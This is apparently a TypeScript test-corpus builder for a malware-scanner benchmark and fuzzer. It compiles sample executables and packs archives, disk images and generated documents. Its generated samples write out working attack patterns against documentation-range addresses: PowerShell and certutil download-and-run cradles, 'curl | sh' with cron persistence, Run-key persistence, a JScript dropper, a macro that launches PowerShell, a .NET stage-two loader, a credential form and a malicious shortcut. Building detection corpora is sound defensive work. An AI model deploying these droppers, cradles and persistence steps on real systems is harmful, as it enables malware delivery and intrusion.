/**
 * The corpus the engine benchmark and the fuzzer run on, built at run time (nothing malicious is in
 * the repository): Debian's clamav-testfiles, PEs compiled with mingw-w64 from small C sources (one
 * of them signed with a throw-away self-signed certificate), archives made with 7-Zip (AES and
 * ZipCrypto, encrypted headers), a .NET assembly compiled with Mono's mcs, ISO, FAT, GPT and QCOW2
 * disk images (genisoimage, mkfs.fat + mcopy, qemu-img), generated documents (a PowerPoint 97 presentation with VBA), RAR 4
 * and scripts, EICAR assembled from parts, random data. A missing tool skips its items with a note; nothing here downloads anything.
 *
 * Every item is also written to `dir` (the Python baseline reads the same files), with a manifest
 * (name, source, sha256 of each). With `reuse`, a directory holding a manifest of this builder's
 * version is loaded instead of rebuilt: the corpus is not fully reproducible (7-Zip's AES salts and
 * IVs, the signing key and the signature are random), so a fuzz case is rebuilt from its seed
 * exactly only on the same corpus directory. Builds are otherwise made deterministic where the tools
 * allow it (no PE link timestamp, fixed file times inside archives).
 */
import { execFileSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, statSync, utimesSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { nestedPdf, pdfDocument, pdfStream } from '../src/engine/fuzz/mutators';
import { partitionedDisk } from '../src/engine/testing/disk-writer';
import { eicar } from '../src/engine/testing/eicar';
import { pptWithStorages, vbaProjectBin, vbaSource } from '../src/engine/testing/office-documents';
import { rar4Archive } from '../src/engine/testing/rar-writer';
import { minimalPe, seededBytes } from '../src/engine/testing/samples';
import { zipArchive } from '../src/engine/testing/zip-writer';

export interface CorpusItem {
  /** File name (unique within the corpus). */
  name: string;
  data: Uint8Array;
  /** Where it came from: clamav-testfiles, mingw, osslsigncode, 7z, generated, system, random. */
  source: string;
  /** Absolute path of its copy in the corpus directory. */
  path: string;
  sha256: string;
}

export interface Corpus {
  dir: string;
  items: CorpusItem[];
  /** What was skipped and why (a missing tool, a failed build). */
  notes: string[];
  /** Removes the directory when buildCorpus created it. */
  cleanup(): void;
}

export interface CorpusOptions {
  /** Directory to write into (created); default a new temporary one, removed by cleanup(). */
  dir?: string;
  /** Leave out items larger than this many bytes (the 1–2 MB InstallShield PEs, for quick runs). */
  maxItemBytes?: number;
  /** Progress and skip notes. */
  log?: (line: string) => void;
  /** Directory of Debian's clamav-testfiles; default /usr/share/clamav-testfiles. */
  clamavDir?: string;
  /** Load `dir` when it holds a corpus of this version (its manifest) instead of building again. */
  reuse?: boolean;
}

/** Bumped whenever the items built here change, so that a reused directory is rebuilt. */
export const CORPUS_VERSION = 3;
const MANIFEST = 'corpus-manifest.json';

interface Manifest {
  version: number;
  created: string;
  notes: string[];
  items: { name: string; source: string; size: number; sha256: string }[];
}

const CLAMAV_DIR = '/usr/share/clamav-testfiles';
const DOTNET_CS = `using System; using System.Net; using System.Reflection; using System.Runtime.InteropServices;
[assembly: AssemblyVersion("1.0.0.0")]
namespace Corpus {
  class Loader {
    [DllImport("kernel32.dll")] static extern IntPtr VirtualAllocEx(IntPtr p, IntPtr a, uint s, uint t, uint pr);
    [DllImport("kernel32.dll")] static extern bool WriteProcessMemory(IntPtr p, IntPtr a, byte[] b, uint s, out UIntPtr w);
    [DllImport("kernel32.dll")] static extern IntPtr CreateRemoteThread(IntPtr p, IntPtr a, uint s, IntPtr st, IntPtr pa, uint f, IntPtr id);
    static void Main() {
      byte[] stage = new WebClient().DownloadData("http://198.51.100.21/stage2.bin");
      Assembly.Load(stage).EntryPoint.Invoke(null, null);
    }
  }
}
`;
const MINGW = 'x86_64-w64-mingw32-gcc';
const TOOL_TIMEOUT = 60_000;

const sha256 = (data: Uint8Array) => createHash('sha256').update(data).digest('hex');
const text = (s: string) => new Uint8Array(Buffer.from(s, 'utf8'));
const latin1 = (s: string) => new Uint8Array(Buffer.from(s, 'latin1'));

function which(tool: string): string | null {
  if (tool.startsWith('/')) return existsSync(tool) ? tool : null;
  for (const dir of (process.env.PATH ?? '/usr/local/bin:/usr/bin:/bin').split(':')) {
    const candidate = join(dir, tool);
    if (dir && existsSync(candidate)) return candidate;
  }
  return null;
}

const run = (tool: string, args: string[], cwd: string) => execFileSync(tool, args, { cwd, stdio: ['ignore', 'pipe', 'pipe'], timeout: TOOL_TIMEOUT });

const HELLO_C = `#include <stdio.h>
int main(void) {
  puts("Hello from the sandbox benchmark corpus.");
  return 0;
}
`;

/**
 * Imports the classic remote-injection trio (what a static stage flags), but only ever acts on its
 * own process and only when told to: harmless, and never run by the corpus anyway.
 */
const INJECT_C = `#include <windows.h>
#include <stdio.h>
#include <stdlib.h>
static const char *note = "HKEY_CURRENT_USER\\\\Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run";
static const char *home = "http://198.51.100.23/update/check.php";
static DWORD WINAPI idle(LPVOID p) { (void)p; return 0; }
int main(int argc, char **argv) {
  if (argc < 2) { printf("usage: %s <own pid>\\n%s %s\\n", argv[0], note, home); return 1; }
  DWORD pid = strtoul(argv[1], NULL, 10);
  if (pid != GetCurrentProcessId()) return 2;
  HANDLE h = OpenProcess(PROCESS_ALL_ACCESS, FALSE, pid);
  if (!h) return 3;
  LPVOID mem = VirtualAllocEx(h, NULL, 4096, MEM_COMMIT | MEM_RESERVE, PAGE_READWRITE);
  SIZE_T written = 0;
  if (mem) WriteProcessMemory(h, mem, "hello", 6, &written);
  HANDLE t = CreateRemoteThread(h, NULL, 0, idle, mem, 0, NULL);
  if (t) { WaitForSingleObject(t, 1000); CloseHandle(t); }
  VirtualFreeEx(h, mem, 0, MEM_RELEASE);
  CloseHandle(h);
  return 0;
}
`;

const DLL_C = `#include <windows.h>
__declspec(dllexport) int CorpusAdd(int a, int b) { return a + b; }
__declspec(dllexport) const char *CorpusName(void) { return "corpus"; }
BOOL WINAPI DllMain(HINSTANCE h, DWORD reason, LPVOID r) { (void)h; (void)reason; (void)r; return TRUE; }
`;

/** A Windows shortcut (MS-SHLLINK) that starts PowerShell with a download cradle: header, string data, no target ID list. */
export function shortcut(args: string): Uint8Array {
  const header = Buffer.alloc(76);
  header.writeUInt32LE(0x4c, 0);
  Buffer.from('0114020000000000c000000000000046', 'hex').copy(header, 4);
  header.writeUInt32LE(0x04 | 0x08 | 0x20 | 0x40 | 0x80, 20); // HasName, HasRelativePath, HasArguments, HasIconLocation, IsUnicode
  header.writeUInt32LE(0x20, 24);
  header.writeUInt32LE(7, 60); // SW_SHOWMINNOACTIVE
  const str = (s: string) => {
    const b = Buffer.alloc(2 + s.length * 2);
    b.writeUInt16LE(s.length, 0);
    b.write(s, 2, 'utf16le');
    return b;
  };
  return new Uint8Array(
    Buffer.concat([
      header,
      str('Invoice'),
      str('..\\..\\..\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe'),
      str(args),
      str('%SystemRoot%\\System32\\shell32.dll'),
      Buffer.alloc(4),
    ]),
  );
}

/** Scripts and documents that look like what analysts get, pointing at documentation addresses (RFC 5737). */
function generatedItems(): { name: string; data: Uint8Array }[] {
  const encoded = Buffer.from('Write-Output "corpus"; Start-Sleep 0', 'utf16le').toString('base64');
  const items: { name: string; data: Uint8Array }[] = [
    { name: 'minutes.txt', data: text('Minutes of the weekly meeting.\n\nAttendees: Alice, Bob.\nThe release ships on Friday; see https://www.example.com/release-notes.\n') },
    {
      name: 'invoice.ps1',
      data: text(
        [
          '$ErrorActionPreference = "SilentlyContinue"',
          "$u = 'http://198.51.100.7/a.ps1'",
          'IEX (New-Object Net.WebClient).DownloadString($u)',
          `powershell.exe -NoProfile -WindowStyle Hidden -EncodedCommand ${encoded}`,
          "$b = [System.Convert]::FromBase64String('TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAAAAAAA')",
          "[Reflection.Assembly]::Load($b) | Out-Null",
          "Set-ItemProperty -Path 'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run' -Name upd -Value 'powershell -w hidden -f C:\\Users\\Public\\u.ps1'",
          '',
        ].join('\r\n'),
      ),
    },
    {
      name: 'dropper.js',
      data: text(
        [
          'var sh = new ActiveXObject("WScript.Shell");',
          'var x = new ActiveXObject("MSXML2.XMLHTTP");',
          'x.open("GET", "http://198.51.100.9/payload.exe", false); x.send();',
          'var s = new ActiveXObject("ADODB.Stream"); s.Type = 1; s.Open(); s.Write(x.responseBody);',
          's.SaveToFile(sh.ExpandEnvironmentStrings("%TEMP%") + "\\\\p.exe", 2);',
          'var k = String.fromCharCode(99,109,100,46,101,120,101);',
          'eval(unescape("%76%61%72%20%7a%20%3d%20%31%3b"));',
          'sh.Run(k + " /c %TEMP%\\\\p.exe", 0, false);',
          '',
        ].join('\n'),
      ),
    },
    { name: 'run.vbs', data: text('Set sh = CreateObject("WScript.Shell")\r\nurl = "http://198.51.100.11/x.txt"\r\nsh.Run "cmd /c echo " & url, 0, False\r\nExecute Chr(77) & Chr(115) & Chr(103) & "Box 1"\r\n') },
    { name: 'setup.bat', data: text('@echo off\r\ncertutil -urlcache -split -f http://198.51.100.4/a.exe %TEMP%\\a.exe\r\nreg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v a /d %TEMP%\\a.exe /f\r\nstart /b %TEMP%\\a.exe\r\n') },
    { name: 'install.sh', data: text('#!/bin/sh\ncurl -fsSL http://198.51.100.5/x.sh | sh\nchmod +x /tmp/.x && /tmp/.x &\necho "* * * * * /tmp/.x" | crontab -\n') },
    { name: 'tool.py', data: text('import base64, subprocess, urllib.request\ncode = urllib.request.urlopen("http://198.51.100.6/c").read()\nexec(base64.b64decode(code))\nsubprocess.Popen(["cmd", "/c", "whoami"])\n') },
    {
      name: 'landing.html',
      data: text(
        '<!DOCTYPE html><html><head><title>Sign in</title></head><body>\n<form action="http://198.51.100.12/collect.php" method="post"><input type="password" name="p"></form>\n<iframe src="http://198.51.100.13/x" width="0" height="0" style="display:none"></iframe>\n<script>document.write(unescape("%3Cscript%20src%3D%22http%3A//198.51.100.14/k.js%22%3E%3C/script%3E"));var a=atob("YWxlcnQoMSk=");eval(a);</script>\n</body></html>\n',
      ),
    },
    { name: 'update.hta', data: text('<html><head><HTA:APPLICATION ID="u" WINDOWSTATE="minimize"></head><script language="VBScript">\nCreateObject("WScript.Shell").Run "powershell -nop -w hidden -c iwr http://198.51.100.15/u -o $env:TEMP\\u.exe", 0\nself.close\n</script></html>\n') },
    { name: 'config.json', data: text(JSON.stringify({ server: 'https://198.51.100.16:8443/api', retries: 3, domains: ['update.example.net', 'cdn.example.org'], nested: { a: [1, 2, [3, [4, [5]]]] } }, null, 2)) },
    { name: 'message.eml', data: text(['From: Billing <billing@example.net>', 'To: someone@example.com', 'Subject: Invoice', 'MIME-Version: 1.0', 'Content-Type: multipart/mixed; boundary="b1"', '', '--b1', 'Content-Type: text/plain', '', 'Please see the attached invoice: http://198.51.100.17/inv', '--b1', 'Content-Type: application/octet-stream; name="invoice.txt.js"', 'Content-Transfer-Encoding: base64', '', Buffer.from('WScript.Echo("corpus");').toString('base64'), '--b1--', ''].join('\r\n')) },
    { name: 'embedded-object.rtf', data: latin1(`{\\rtf1\\ansi\\deff0{\\fonttbl{\\f0 Arial;}}\\f0 Invoice attached.\\par{\\object\\objemb{\\*\\objclass Package}\\objw2000\\objh400{\\*\\objdata 01050000020000000800000050616b616765000000000000000000${Buffer.from('Echo corpus').toString('hex')}00000000}}}\n`) },
    { name: 'shortcut.lnk', data: shortcut('-nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString(\'http://198.51.100.7/a.ps1\')"') },
    {
      name: 'actions.pdf',
      data: pdfDocument([
        '<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R /Names << /EmbeddedFiles << /Names [(readme.js) 6 0 R] >> >> >>',
        '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
        '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 100 100] /A << /S /URI /URI (http://198.51.100.18/doc) >> >>] >>',
        '<< /Type /Action /S /JavaScript /JS (app.alert\\("corpus"\\); this.exportDataObject\\({cName: "readme.js", nLaunch: 2}\\);) >>',
        pdfStream('/Type /EmbeddedFile', text('WScript.Echo("corpus");')),
        '<< /Type /Filespec /F (readme.js) /EF << /F 5 0 R >> >>',
      ]),
    },
    { name: 'nested-arrays.pdf', data: nestedPdf(200, 'array', true, null) },
    {
      name: 'report.docx',
      data: zipArchive([
        { name: '[Content_Types].xml', data: text('<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'), method: 'deflate' },
        { name: '_rels/.rels', data: text('<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>'), method: 'deflate' },
        { name: 'word/document.xml', data: text('<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>Quarterly report</w:t></w:r></w:p></w:body></w:document>'), method: 'deflate' },
        { name: 'word/_rels/settings.xml.rels', data: text('<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://198.51.100.19/template.dotm" TargetMode="External"/></Relationships>'), method: 'deflate' },
      ]),
    },
    { name: 'minimal.exe', data: minimalPe({ size: 4096 }) },
    { name: 'eicar.com', data: eicar() },
    { name: 'eicar-in.zip', data: zipArchive([{ name: 'eicar.com', data: eicar(), method: 'deflate' }]) },
    { name: 'empty.bin', data: new Uint8Array(0) },
    { name: 'zeros.bin', data: new Uint8Array(64 * 1024) },
    { name: 'random-1k.bin', data: seededBytes(1024, 11) },
    { name: 'random-256k.bin', data: seededBytes(256 * 1024, 12) },
    { name: 'stored.rar', data: rar4Archive([{ name: 'minutes.txt', data: text('Minutes, stored in a RAR 4 archive.\n') }, { name: 'tools\\eicar.com', data: eicar() }]) },
    {
      name: 'macro-deck.ppt',
      data: pptWithStorages([vbaProjectBin([{ name: 'Module1', source: vbaSource('Module1', 'Sub Auto_Open()\n  Shell "powershell -w hidden -c iwr http://198.51.100.9/p.ps1"\nEnd Sub') }])]),
    },
  ];
  try {
    // eslint-disable-next-line @typescript-eslint/no-require-imports
    const CFB = require('cfb') as { utils: { cfb_new(): unknown; cfb_add(c: unknown, path: string, data: Buffer): void }; write(c: unknown, o: { type: 'buffer' }): Buffer };
    const ole = CFB.utils.cfb_new();
    CFB.utils.cfb_add(ole, '/WordDocument', Buffer.alloc(4096, 0x41));
    CFB.utils.cfb_add(ole, '/\u0001CompObj', Buffer.from('Microsoft Word-Dokument\0MSWordDoc\0Word.Document.8\0', 'latin1'));
    CFB.utils.cfb_add(ole, '/\u0001Ole10Native', Buffer.concat([Buffer.from([0x20, 0, 0, 0, 2, 0]), Buffer.from('run.bat\0C:\\t\\run.bat\0', 'latin1'), Buffer.from('@echo corpus\r\n')]));
    CFB.utils.cfb_add(ole, '/Macros/VBA/dir', Buffer.from([0x01, 0x10, 0x00]));
    items.push({ name: 'streams.doc', data: new Uint8Array(CFB.write(ole, { type: 'buffer' })) });
  } catch {
    // cfb is a dependency of the project; without it the OLE item is left out
  }
  return items;
}

function loadManifest(dir: string, options: CorpusOptions): Corpus | null {
  const file = join(dir, MANIFEST);
  if (!existsSync(file)) return null;
  try {
    const manifest = JSON.parse(readFileSync(file, 'utf8')) as Manifest;
    if (manifest.version !== CORPUS_VERSION) return null;
    const items: CorpusItem[] = [];
    for (const entry of manifest.items) {
      if (options.maxItemBytes !== undefined && entry.size > options.maxItemBytes) continue;
      const path = join(dir, entry.name);
      const data = new Uint8Array(readFileSync(path));
      if (sha256(data) !== entry.sha256) return null;
      items.push({ name: entry.name, data, source: entry.source, path, sha256: entry.sha256 });
    }
    options.log?.(`  corpus: reusing ${dir} (built ${manifest.created}, ${items.length} items)`);
    return { dir, items, notes: manifest.notes, cleanup: () => undefined };
  } catch {
    return null;
  }
}

export function buildCorpus(options: CorpusOptions = {}): Corpus {
  const log = options.log ?? (() => undefined);
  const owned = !options.dir;
  const dir = options.dir ?? mkdtempSync(join(tmpdir(), 'sandbox-corpus-'));
  if (options.reuse && options.dir) {
    const loaded = loadManifest(dir, options);
    if (loaded) return loaded;
  }
  mkdirSync(dir, { recursive: true });
  const work = mkdtempSync(join(tmpdir(), 'sandbox-corpus-build-'));
  const items: CorpusItem[] = [];
  const notes: string[] = [];
  const note = (line: string) => {
    notes.push(line);
    log(`  corpus: ${line}`);
  };
  const all: Manifest['items'] = [];
  const add = (name: string, data: Uint8Array, source: string) => {
    if (all.some((i) => i.name === name)) return;
    const path = join(dir, name);
    writeFileSync(path, data);
    const digest = sha256(data);
    all.push({ name, source, size: data.length, sha256: digest });
    if (options.maxItemBytes !== undefined && data.length > options.maxItemBytes) return;
    items.push({ name, data, source, path, sha256: digest });
  };
  const addFile = (name: string, file: string, source: string) => add(name, new Uint8Array(readFileSync(file)), source);

  try {
    // Debian's ClamAV test files: packed PEs, OLE, PDF, RTF, many archive and mail encodings.
    const clamav = options.clamavDir ?? CLAMAV_DIR;
    if (existsSync(clamav)) {
      for (const name of readdirSync(clamav).sort()) {
        const file = join(clamav, name);
        if (statSync(file).isFile()) addFile(name, file, 'clamav-testfiles');
      }
    } else {
      note(`${clamav} not found (Debian package clamav-testfiles): its 44 files are left out`);
    }

    for (const { name, data } of generatedItems()) add(name, data, 'generated');

    // Native executables of this machine (ELF), read, not built.
    for (const file of ['/usr/bin/true', '/usr/bin/env']) if (existsSync(file)) addFile(`elf-${file.split('/').pop()}`, file, 'system');
    const gcc = which('gcc');
    if (gcc) {
      try {
        writeFileSync(join(work, 'hello.c'), HELLO_C);
        run(gcc, ['-O2', '-o', 'hello-elf', 'hello.c'], work);
        addFile('hello.elf', join(work, 'hello-elf'), 'gcc');
      } catch (err) {
        note(`gcc hello failed: ${(err as Error).message.split('\n')[0]}`);
      }
    }

    // PEs from C sources.
    const built: Record<string, string> = {};
    if (which(MINGW)) {
      const sources = [
        { out: 'hello.exe', file: 'hello.c', source: HELLO_C, args: ['-O2', '-s'] },
        { out: 'hello-debug.exe', file: 'hello.c', source: HELLO_C, args: ['-O0', '-g'] },
        { out: 'inject.exe', file: 'inject.c', source: INJECT_C, args: ['-O2', '-s'] },
        { out: 'corpus.dll', file: 'dll.c', source: DLL_C, args: ['-O2', '-s', '-shared'] },
      ];
      for (const s of sources) {
        try {
          writeFileSync(join(work, s.file), s.source);
          run(MINGW, [...s.args, '-Wl,--no-insert-timestamp', '-o', s.out, s.file], work);
          built[s.out] = join(work, s.out);
          addFile(s.out, built[s.out], 'mingw');
        } catch (err) {
          note(`${MINGW} ${s.out} failed: ${(err as Error).message.split('\n')[0]}`);
        }
      }
    } else {
      note(`${MINGW} not found (Debian package gcc-mingw-w64-x86-64): compiled PEs left out`);
    }

    // Authenticode: a throw-away self-signed certificate, made now.
    const openssl = which('openssl');
    const osslsigncode = which('osslsigncode');
    if (!built['hello.exe']) note('no compiled PE: the signed PE is left out');
    else if (!openssl || !osslsigncode) note(`${!openssl ? 'openssl' : 'osslsigncode'} not found: the signed PE is left out`);
    else {
      try {
        run(openssl, ['req', '-x509', '-newkey', 'rsa:2048', '-nodes', '-keyout', 'key.pem', '-out', 'cert.pem', '-days', '2', '-subj', '/CN=Sandbox Corpus Test Signer/O=Sandbox Benchmark'], work);
        run(osslsigncode, ['sign', '-certs', 'cert.pem', '-key', 'key.pem', '-n', 'Sandbox corpus', '-i', 'https://www.example.com/', '-in', 'hello.exe', '-out', 'hello-signed.exe'], work);
        addFile('hello-signed.exe', join(work, 'hello-signed.exe'), 'osslsigncode');
      } catch (err) {
        note(`signing failed: ${(err as Error).message.split('\n')[0]}`);
      }
    }

    // A .NET assembly: P/Invoke injection APIs, a download and Assembly.Load(byte[]).
    const mcs = which('mcs');
    if (mcs) {
      try {
        writeFileSync(join(work, 'loader.cs'), DOTNET_CS);
        run(mcs, ['-out:dotnet-loader.exe', 'loader.cs'], work);
        addFile('dotnet-loader.exe', join(work, 'dotnet-loader.exe'), 'mcs');
      } catch (err) {
        note(`mcs failed: ${(err as Error).message.split('\n')[0]}`);
      }
    } else {
      note('mcs not found (Debian package mono-mcs): the .NET assembly is left out');
    }

    // Disk images holding an executable and a shortcut.
    const payload = built['inject.exe'] ?? null;
    const genisoimage = which('genisoimage');
    const mkfsFat = which('mkfs.fat') ?? which('/usr/sbin/mkfs.fat');
    const mcopy = which('mcopy');
    if (payload && genisoimage && mkfsFat && mcopy) {
      try {
        writeFileSync(join(work, 'invoice.lnk'), shortcut('/c start inject.exe'));
        run(genisoimage, ['-quiet', '-J', '-R', '-o', 'delivery.iso', 'inject.exe', 'invoice.lnk'], work);
        addFile('delivery.iso', join(work, 'delivery.iso'), 'genisoimage');
        writeFileSync(join(work, 'floppy.img'), new Uint8Array(1440 * 1024));
        run(mkfsFat, ['-F', '12', '-n', 'DELIVERY', 'floppy.img'], work);
        run(mcopy, ['-i', 'floppy.img', 'inject.exe', 'invoice.lnk', '::/'], work);
        addFile('floppy.img', join(work, 'floppy.img'), 'mkfs.fat');
        add('gpt-disk.img', partitionedDisk(new Uint8Array(readFileSync(join(work, 'floppy.img'))), 'gpt'), 'mkfs.fat in a GPT disk written by disk-writer.ts');
        const qemuImg = which('qemu-img');
        if (qemuImg) {
          run(qemuImg, ['convert', '-f', 'raw', '-O', 'qcow2', 'floppy.img', 'floppy.qcow2'], work);
          addFile('floppy.qcow2', join(work, 'floppy.qcow2'), 'qemu-img');
        } else {
          note('qemu-img not found (Debian package qemu-utils): the QCOW2 image is left out');
        }
      } catch (err) {
        note(`disk images failed: ${(err as Error).message.split('\n')[0]}`);
      }
    } else {
      note('no compiled PE, or genisoimage / mkfs.fat / mcopy missing (Debian packages genisoimage, dosfstools, mtools): disk images left out');
    }

    // Archives made by 7-Zip from the files above.
    const sevenZip = which('/usr/bin/7z') ?? which('7z');
    if (sevenZip) {
      for (const name of ['minutes.txt', 'invoice.ps1', 'dropper.js', 'eicar.com']) {
        const item = items.find((i) => i.name === name);
        if (item) writeFileSync(join(work, name), item.data);
      }
      const fixed = new Date('2024-01-02T03:04:05Z');
      for (const name of readdirSync(work)) utimesSync(join(work, name), fixed, fixed);
      const exe = built['inject.exe'] ? 'inject.exe' : 'minutes.txt';
      const hello = built['hello.exe'] ? 'hello.exe' : 'minutes.txt';
      const archives: { out: string; args: string[] }[] = [
        { out: 'bundle.zip', args: ['-tzip', hello, 'minutes.txt', 'dropper.js'] },
        { out: 'bundle.7z', args: ['-t7z', exe, 'invoice.ps1'] },
        { out: 'aes-infected.zip', args: ['-tzip', '-mem=AES256', '-pinfected', exe, 'minutes.txt'] },
        { out: 'zipcrypto-infected.zip', args: ['-tzip', '-mem=ZipCrypto', '-pinfected', 'eicar.com'] },
        { out: 'headers-encrypted.7z', args: ['-t7z', '-pinfected', '-mhe=on', exe] },
        { out: 'aes-unknown-password.zip', args: ['-tzip', '-mem=AES256', '-pnot-a-known-password', 'minutes.txt', 'dropper.js'] },
        { out: 'scripts.tar', args: ['-ttar', 'invoice.ps1', 'dropper.js', 'minutes.txt'] },
      ];
      for (const a of archives) {
        try {
          run(sevenZip, ['a', '-bd', '-y', ...a.args.filter((x) => x.startsWith('-')), a.out, ...a.args.filter((x) => !x.startsWith('-'))], work);
          utimesSync(join(work, a.out), fixed, fixed);
          addFile(a.out, join(work, a.out), '7z');
        } catch (err) {
          note(`7z ${a.out} failed: ${(err as Error).message.split('\n')[0]}`);
        }
      }
      for (const [out, type] of [['scripts.tar.gz', '-tgzip'], ['scripts.tar.xz', '-txz'], ['scripts.tar.bz2', '-tbzip2']] as const) {
        try {
          run(sevenZip, ['a', '-bd', '-y', type, out, 'scripts.tar'], work);
          addFile(out, join(work, out), '7z');
        } catch (err) {
          note(`7z ${out} failed: ${(err as Error).message.split('\n')[0]}`);
        }
      }
      try {
        run(sevenZip, ['a', '-bd', '-y', '-tzip', 'nested.zip', 'bundle.zip', 'bundle.7z'], work);
        addFile('zip-of-archives.zip', join(work, 'nested.zip'), '7z');
      } catch (err) {
        note(`7z nested.zip failed: ${(err as Error).message.split('\n')[0]}`);
      }
    } else {
      note('7z not found (Debian package p7zip-full): 7-Zip-made archives left out');
    }
  } finally {
    rmSync(work, { recursive: true, force: true });
  }
  const manifest: Manifest = { version: CORPUS_VERSION, created: new Date().toISOString(), notes, items: all };
  writeFileSync(join(dir, MANIFEST), `${JSON.stringify(manifest, null, 1)}\n`);
  if (options.maxItemBytes !== undefined) log(`  corpus: ${all.length - items.length} item(s) over ${options.maxItemBytes} bytes left out`);
  return { dir, items, notes, cleanup: () => (owned ? rmSync(dir, { recursive: true, force: true }) : undefined) };
}
